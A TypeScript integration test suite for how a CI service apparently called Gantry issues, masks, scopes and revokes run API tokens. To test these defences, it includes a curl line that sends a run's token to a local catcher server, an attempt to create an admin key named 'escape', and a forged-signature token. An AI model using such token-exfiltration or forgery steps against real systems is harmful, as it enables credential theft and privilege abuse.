import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { and, asc, eq } from 'drizzle-orm';
import { schema } from '../support/tables';
import { RunState } from '../../src/runs/types';
import { createTestRepo, type TestRepo } from '../support/gitRepo';
import { freePort } from '../support/ports';
import { startRunHarness, type RunHarness } from '../support/runs';
import { startApiServer, type ApiServer, type GraphQLAnswer } from '../support/api';

const WHO_AND_CONTEXTS_QUERY = '{ viewer { id } contexts { id } }';
const WHO_AND_CONTEXTS = JSON.stringify({ query: WHO_AND_CONTEXTS_QUERY });
const WHO = JSON.stringify({ query: '{ viewer { id } }' });
const MAKE_CONTEXT = JSON.stringify({
  query: 'mutation { contextCreateV2(input: { name: "made-by-a-task" }) { id } }',
});
const MAKE_KEY = JSON.stringify({
  query: 'mutation { apiKeyCreate(input: { name: "escape", admin: true }) { id } }',
});

/** What a run's tools post with their token: `curl` with the body in the variable named. */
const post = (variable: string) =>
  `curl -sS -H "Authorization: Bearer $SPACELIFT_API_TOKEN" -H 'content-type: application/json' --data "$${variable}" "$SPACELIFT_API_ENDPOINT/graphql"; echo`;

describe("runs' API tokens", () => {
  let harness: RunHarness;
  let api: ApiServer;
  let repo: TestRepo;
  let catcher: http.Server;
  let catcherUrl: string;
  /** Tokens runs handed to the catcher, with what the API answered them at that moment. */
  const caught: Array<{ token: string; whileRunning: GraphQLAnswer }> = [];
  /** What happens once a token is caught, before the run goes on. */
  let whenCaught: (() => Promise<void>) | undefined;

  const createStack = async (name: string, administrative: boolean, beforePlan: string[] = []) => {
    const created = await api.graphql<{ stackCreate: { id: string } }>(
      `mutation ($input: StackInput!) { stackCreate(input: $input, manageState: true) { id } }`,
      {
        input: {
          name,
          provider: 'RAW_GIT',
          repository: repo.url,
          branch: 'main',
          administrative,
          beforePlan,
        },
      },
    );
    expect(created.errors).toBeUndefined();
    const stack = created.data!.stackCreate.id;
    for (const [id, value] of Object.entries({
      WHO,
      WHO_AND_CONTEXTS,
      MAKE_CONTEXT,
      MAKE_KEY,
      CATCHER: catcherUrl,
    })) {
      const added = await api.graphql(
        `mutation ($stack: ID!, $config: ConfigInput!) { stackConfigAdd(stack: $stack, config: $config) { id } }`,
        { stack, config: { id, value, writeOnly: false, type: 'ENVIRONMENT_VARIABLE' } },
      );
      expect(added.errors).toBeUndefined();
    }
    return stack;
  };

  const runTask = async (stack: string, command: string) => {
    const created = await api.graphql<{ taskCreate: { id: string } }>(
      `mutation ($stack: ID!, $command: String!) { taskCreate(stack: $stack, command: $command) { id } }`,
      { stack, command },
    );
    expect(created.errors).toBeUndefined();
    const runId = created.data!.taskCreate.id;
    await harness.waitForState(runId, RunState.FINISHED);
    return runId;
  };

  const logs = async (runId: string, state: RunState) =>
    (
      await harness.database.db
        .select({ message: schema.runLogs.message })
        .from(schema.runLogs)
        .where(and(eq(schema.runLogs.runId, runId), eq(schema.runLogs.state, state)))
        .orderBy(asc(schema.runLogs.seq))
    ).map((row) => row.message);

  beforeAll(async () => {
    repo = await createTestRepo();
    await repo.commit(
      { 'main.tf': 'resource "terraform_data" "marker" {\n  input = "one"\n}\n' },
      'Add a marker',
    );
    // A server of the test's that a run's task hands its token to: what leaves a run, as code
    // that exfiltrates it would.
    catcher = http.createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        void (async () => {
          const whileRunning = await api.graphql(WHO_AND_CONTEXTS_QUERY, {}, body);
          caught.push({ token: body, whileRunning });
          await whenCaught?.();
          response.end('caught\n');
        })();
      });
    });
    await new Promise<void>((resolve) => catcher.listen(0, '127.0.0.1', resolve));
    catcherUrl = `http://127.0.0.1:${(catcher.address() as AddressInfo).port}/`;
    const port = await freePort();
    harness = await startRunHarness({ publicUrl: `http://127.0.0.1:${port}` });
    api = await startApiServer(harness, { port });
  });

  afterAll(async () => {
    await new Promise((resolve) => catcher?.close(resolve));
    await api?.close();
    await harness?.stop();
    await repo?.remove();
  });

  it("gives an administrative stack's task an admin token for the API, masked in its logs, that dies with the run", async () => {
    const stack = await createStack('Admin', true);
    const runId = await runTask(
      stack,
      [
        'echo "endpoint $SPACELIFT_API_ENDPOINT"',
        'echo "token $SPACELIFT_API_TOKEN"',
        post('WHO_AND_CONTEXTS'),
        post('MAKE_CONTEXT'),
        post('MAKE_KEY'),
        'curl -sS --data "$SPACELIFT_API_TOKEN" "$CATCHER"',
      ].join('\n'),
    );

    const lines = await logs(runId, RunState.PERFORMING);
    const { token, whileRunning } = caught.splice(0)[0]!;
    expect(token).toMatch(/^ey/);
    expect(lines.join('\n')).not.toContain(token);
    expect(lines).toContain(`endpoint ${api.url}`);
    expect(lines).toContain('token *****');
    // The answers to the task's own requests, as it printed them.
    expect(lines).toContainEqual(
      expect.stringContaining(`"viewer":{"id":"run/${stack}/${runId}"},"contexts":[`),
    );
    expect(lines).toContainEqual(
      expect.stringContaining('"contextCreateV2":{"id":"made-by-a-task"}'),
    );
    expect(lines).toContainEqual(expect.stringContaining("a run's token cannot create API keys"));
    const contexts = await api.graphql<{ contexts: Array<{ id: string }> }>('{ contexts { id } }');
    expect(contexts.data!.contexts).toContainEqual({ id: 'made-by-a-task' });

    // Spacelift's provider reads the token unverified: its issuer, subject and audience.
    const claims = JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString()) as {
      iss: string;
      sub: string;
      aud: string;
    };
    expect(claims).toMatchObject({ iss: 'spacelift', sub: `${stack}/${runId}`, aud: api.url });

    // While the task ran, the token worked from anywhere; once it ended, it works nowhere.
    expect(whileRunning.errors).toBeUndefined();
    expect(whileRunning.data).toMatchObject({ viewer: { id: `run/${stack}/${runId}` } });
    const after = await api.graphql('{ viewer { id } }', {}, token);
    expect(after.status).toBe(401);
    expect(after.errors![0]!.extensions!.code).toBe('UNAUTHENTICATED');
    expect(after.errors![0]!.message).toContain('has left the phase its token was issued for');
  });

  it("gives other stacks' tasks a token that is no admin, which the API refuses what admins do", async () => {
    const plain = await createStack('Plain', false);
    const runId = await runTask(
      plain,
      [
        'echo "token=[${SPACELIFT_API_TOKEN:-none}] endpoint=[${SPACELIFT_API_ENDPOINT:-none}]"',
        post('WHO'),
        post('WHO_AND_CONTEXTS'),
        post('MAKE_CONTEXT'),
      ].join('\n'),
    );
    const lines = await logs(runId, RunState.PERFORMING);
    expect(lines).toContain(`token=[*****] endpoint=[${api.url}]`);
    expect(lines).toContainEqual(
      expect.stringContaining(`"viewer":{"id":"run/${plain}/${runId}"}`),
    );
    const refusals = lines.filter((line) => line.includes('"code":"FORBIDDEN"'));
    expect(refusals).toHaveLength(2);
    for (const refusal of refusals) {
      expect(refusal).toContain(
        "only admins may do this, and this run's stack is not administrative",
      );
    }
  });

  it("gives no token to an administrative stack's proposed runs", async () => {
    const check =
      'echo "token=[${SPACELIFT_API_TOKEN:-none}] endpoint=[${SPACELIFT_API_ENDPOINT:-none}]"';
    const admin = await createStack('Admin previews', true, [check]);
    const triggered = await api.graphql<{ runTrigger: { id: string } }>(
      `mutation ($stack: ID!) { runTrigger(stack: $stack, runType: PROPOSED) { id } }`,
      { stack: admin },
    );
    expect(triggered.errors).toBeUndefined();
    const proposed = triggered.data!.runTrigger.id;
    await harness.waitForState(proposed, RunState.FINISHED);
    expect(await logs(proposed, RunState.PLANNING)).toContain('token=[none] endpoint=[none]');
  });

  it('makes the token of a stack no longer administrative no admin at once, and refuses a token Gantry did not sign', async () => {
    const stack = await createStack('Admin for a while', true);
    // Once the task has handed its token over, an admin makes the stack an ordinary one.
    whenCaught = async () => {
      await harness.database.db
        .update(schema.stacks)
        .set({ administrative: false })
        .where(eq(schema.stacks.id, stack));
    };
    const runId = await runTask(
      stack,
      ['curl -sS --data "$SPACELIFT_API_TOKEN" "$CATCHER"', post('WHO_AND_CONTEXTS')].join('\n'),
    );
    whenCaught = undefined;
    const { token, whileRunning } = caught.splice(0)[0]!;
    expect(whileRunning.errors).toBeUndefined();
    expect(await logs(runId, RunState.PERFORMING)).toContainEqual(
      expect.stringContaining("this run's stack is not administrative"),
    );

    const [header, payload] = token.split('.');
    const forged = await api.graphql('{ viewer { id } }', {}, `${header}.${payload}.c2lnbmF0dXJl`);
    expect(forged.status).toBe(401);
    expect(forged.errors![0]!.message).toContain("not a run's token Gantry issued");
  });
});
